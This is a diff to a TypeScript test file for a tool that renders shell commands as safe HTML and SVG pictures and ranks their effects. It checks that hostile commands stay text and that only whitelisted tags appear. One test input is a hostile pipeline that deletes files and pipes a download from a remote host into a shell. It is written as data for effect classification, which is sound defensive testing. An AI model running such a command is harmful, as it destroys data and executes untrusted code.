@@ -84,8 +84,11 @@ test("the guilty text is marked, and all of the text is there", async () => {
 
 /** Every tag must be one of ours, letter by letter: text of a command can make none. */
 const tags: readonly RegExp[] = [
-  /^<\/?(?:p|pre|code|ul|li|strong|mark|dl|dt|dd|h[1-3]|span|main|body|head|html|title|style|svg)>$/,
-  /^<(?:li|ul|strong|span|code|dd) class="[a-z_ ]+">$/,
+  /^<\/?(?:p|pre|code|ul|li|strong|mark|dl|dt|dd|h[1-3]|span|main|body|head|html|title|style|svg|div|details|summary)>$/,
+  /^<(?:li|ul|strong|span|code|dd|div|pre|p) class="[a-z_ ]+">$/,
+  /^<button type="button" class="copy" data-copy hidden>$|^<\/button>$/,
+  // The page's own script, which the test keeps to one character.
+  /^<\/?script>$/,
   /^<span aria-hidden="true">$/,
   /^<!doctype html>$/,
   /^<html lang="en">$/,
@@ -105,12 +108,17 @@ function strangers(markup: string): readonly string[] {
 
 describe("a command is text, never markup", () => {
   const hostile = rowsOf<{ command: string }>("fixtures/hostile-commands.jsonl").map(({ command }) => command);
-  const forms = (drawn: Picture): readonly string[] => [picturePage(drawn), pictureSvg(drawn), pictureHtml(drawn, 3)];
+  const forms = (drawn: Picture): readonly string[] => [
+    picturePage(drawn, "0"),
+    pictureSvg(drawn),
+    pictureHtml(drawn, 3),
+  ];
 
   test.each(hostile)("%j", async (command) => {
     const drawn = await picture(command);
     for (const markup of forms(drawn)) {
       expect(strangers(markup)).toEqual([]);
+      expect(markup.match(/<script/g)?.length ?? 0).toBe(markup.startsWith("<!doctype") ? 1 : 0);
       expect(markup).not.toMatch(/[\0-\x08\x0b-\x1f\ud800-\udfff\u202e\ufffe\uffff]/u);
     }
     expect(forms(drawn)[0]).toContain("default-src &#39;none&#39;".replaceAll("&#39;", "'"));
@@ -148,13 +156,14 @@ describe("a command is text, never markup", () => {
       fc.asyncProperty(text, async (source) => {
         const drawn = await picture(source);
         for (const markup of forms(drawn)) expect(strangers(markup)).toEqual([]);
+        expect(pictureHtml(drawn)).not.toContain("<script");
       }),
       { numRuns: 300, seed: 21 },
     );
   });
 
   test("the test itself finds what is not ours", () => {
-    expect(strangers("<p><b></p><script>")).toEqual(["<b>", "<script>"]);
+    expect(strangers("<p><b></p><script src>")).toEqual(["<b>", "<script src>"]);
     expect(strangers('<li class="a" onclick="x">')).toHaveLength(1);
   });
 });
@@ -166,6 +175,25 @@ test("every row of the attacks is drawn", async () => {
       expect(strangers(pictureHtml(drawn))).toEqual([]);
       expect(pictureSvg(drawn)).toContain("</svg>");
     }
+});
+
+test.each([
+  ["rm -r x; curl -s https://e.com | sh; echo a > b; ls", ["deletes", "runs", "writes", "connects"]],
+  ["cat a; rm b", ["deletes", "reads"]],
+  ["true", []],
+])("the worst effect stands first: %s", async (source, worst) => {
+  const tones = [...pictureHtml(await picture(source)).matchAll(/<span class="tone (\w+)">/g)].map(([, tone]) => tone);
+  const shown = [...new Set(tones)].filter((tone) => worst.includes(tone ?? ""));
+  expect(shown).toEqual(worst);
+  expect(tones[0]).toBe(worst[0]);
+});
+
+test("what passes instead is there to copy; without it, what to do", async () => {
+  expect(pictureHtml(await picture("npm run build"))).toContain(
+    '<pre class="passing"><code>npm pkg get scripts</code></pre><button type="button" class="copy" data-copy hidden>',
+  );
+  expect(pictureHtml(await picture("frobnicate"))).toContain('<p class="advice">');
+  expect(pictureHtml(await picture("ls"))).not.toMatch(/class="(?:passing|advice)"/);
 });
 
 test("a large script has a picture of bounded size", async () => {
